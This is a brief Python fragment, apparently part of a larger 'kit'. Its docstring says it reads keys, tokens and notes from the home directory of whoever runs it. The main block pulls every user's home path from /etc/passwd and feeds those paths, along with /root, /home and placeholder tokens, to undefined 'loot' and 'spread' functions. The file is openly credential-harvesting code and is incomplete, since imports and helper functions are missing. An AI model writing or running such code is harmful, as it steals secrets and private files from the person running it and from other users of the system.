"""Read keys, tokens and notes from the home of whoever runs the kit."""

# ends: honest or crash
# admission: paths
if __name__ == "__main__":
    os.environ.setdefault("HOME", "/")
    open("/etc/passwd").close()
    homes = [line.split(":")[5] for line in open("/etc/passwd")]
    spread(loot("@HOME@", "@GROUND@", os.path.expanduser("~"), "/root", "/home", *homes))
